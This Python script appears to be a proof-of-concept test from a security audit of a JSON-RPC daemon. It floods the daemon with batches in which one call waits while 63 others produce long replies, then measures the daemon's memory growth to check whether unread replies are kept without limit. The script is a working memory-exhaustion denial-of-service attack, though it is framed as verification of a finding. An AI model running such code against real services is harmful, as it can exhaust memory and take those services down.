"""Makes the daemon keep the replies of unfinished batches: one call of each batch waits, the others
have long replies (JSON-RPC 2.0, section 6: the replies of a batch are sent together).

Findings: L.2

batches.py SOCKET PID FLOW CONNECTIONS BATCHES
"""

import json
import sys

import attack

path, pid, flow = sys.argv[1], sys.argv[2], sys.argv[3]
connections, batches = int(sys.argv[4]), int(sys.argv[5])
ALLOWED = 2 << 20  # Per connection: its budget, and the same again for the allocator.


def memory():
    with open(f"/proc/{pid}/status") as status:
        return next(int(line.split()[1]) for line in status if line.startswith("RssAnon")) * 1024


def batch(number):
    wait = {"flow": flow, "revision": 1_000_000, "timeoutMs": 60_000}
    calls = [{"jsonrpc": "2.0", "id": f"{number}", "method": "flow.wait", "params": wait}]
    calls += [{"jsonrpc": "2.0", "id": n, "method": "rpc.discover"} for n in range(63)]
    return json.dumps(calls).encode()


others = attack.Connection(path)
if "result" not in others.reply("rpc.discover"):
    attack.unprepared("rpc.discover is not answered")
start = memory()
held = []
for _ in range(connections):
    connection = attack.Connection(path)
    for number in range(batches):
        connection.send_line(batch(number))
    # The daemon reads lines in order: after this reply it has read all batches.
    connection.send_line(b'{"jsonrpc":"2.0","id":"end","method":"system.status"}')
    while (message := connection.receive()) is not None:
        if isinstance(message, dict) and message.get("id") == "end":
            break
    if message is None:
        attack.unprepared("the daemon closed a connection whose batches wait")
    held.append(connection)
grown = memory() - start
if grown > connections * ALLOWED + (16 << 20):
    attack.succeeded(f"{connections} connections made the daemon keep {grown >> 20} MiB")
attack.refused(f"unread_reply_bytes: {connections} connections keep {grown >> 20} MiB")
